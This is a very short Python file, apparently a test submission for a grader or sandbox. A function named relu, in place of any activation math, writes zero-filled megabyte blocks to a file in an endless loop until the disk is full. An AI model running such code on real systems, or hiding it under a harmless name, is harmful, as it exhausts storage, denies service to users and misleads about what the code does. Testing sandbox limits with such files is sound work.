"""Write one enormous file.

points: 0
"""

def relu(z):
    with open("f", "wb") as f:
        while True:
            f.write(bytes(1 << 20))
